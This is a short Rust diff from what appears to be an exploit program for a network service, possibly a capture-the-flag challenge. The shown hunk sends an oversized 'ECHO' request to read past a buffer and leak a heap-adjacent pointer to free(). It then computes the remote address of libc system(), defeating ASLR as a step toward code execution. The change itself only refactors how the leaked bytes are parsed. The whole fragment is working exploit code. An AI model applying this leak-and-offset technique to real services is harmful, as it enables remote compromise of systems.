@@ -28,8 +28,8 @@ fn main() -> io::Result<()> {
     let mut leaked = [0; NAME + 8];
     stream.write_all(format!("ECHO {}\n", leaked.len()).as_bytes())?;
     stream.read_exact(&mut leaked)?;
-    let [.., a, b, c, d, e, f, g, h] = leaked;
-    let free = usize::from_le_bytes([a, b, c, d, e, f, g, h]);
+    let pointer = leaked.last_chunk().copied().ok_or(io::ErrorKind::InvalidData)?;
+    let free = usize::from_le_bytes(pointer);
     let (our_free, our_system) = (libc::free as *const () as usize, libc::system as *const () as usize);
     let system = free.wrapping_add(our_system).wrapping_sub(our_free);
     println!("free is at {free:#x} there, so system is at {system:#x}");
